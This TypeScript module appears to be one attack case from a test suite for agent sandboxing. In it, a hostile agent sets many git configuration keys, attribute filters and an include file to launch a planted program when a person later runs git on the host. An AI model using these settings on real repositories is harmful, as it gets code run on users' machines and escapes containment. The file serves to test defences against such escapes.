import type { Attack } from '../frame/attack.ts'
import { live, plant } from './_work.ts'

const keys = [
  'core.fsmonitor', 'core.pager', 'core.editor', 'core.sshCommand', 'core.askPass', 'core.alternateRefsCommand', 'core.gitProxy', 'diff.external', 'credential.helper',
  'gpg.program', 'gpg.ssh.program', 'interactive.diffFilter', 'sequence.editor', 'uploadpack.packObjectsHook', 'filter.x.clean', 'filter.x.smudge', 'filter.x.process',
  'diff.x.textconv', 'diff.x.command', 'merge.x.driver', 'alias.status', 'alias.log', 'pager.log', 'pager.diff', 'trailer.x.command', 'man.x.cmd', 'browser.x.cmd',
]

const attack: Attack = {
  tries: 'names a program under every setting of its gitdir\'s configuration that git starts programs from, while the person uses git',
  success: 'the program runs on the host',
  run: async (t) => {
    const evil = await t.agent()
    const program = await plant(t, evil)
    await evil.sh(`printf '* filter=x diff=x merge=x\\n' >.gitattributes; for k in ${keys.join(' ')}; do git config "$k" ${program}; done
      git config log.showSignature true; git config commit.gpgSign true; git config include.path ${evil.worktree}/more.config; printf '[core]\\n\\tfsmonitor = ${program}\\n' >more.config; echo changed >>README.md`)
    return live(t, evil, 'programs')
  },
}
export default attack
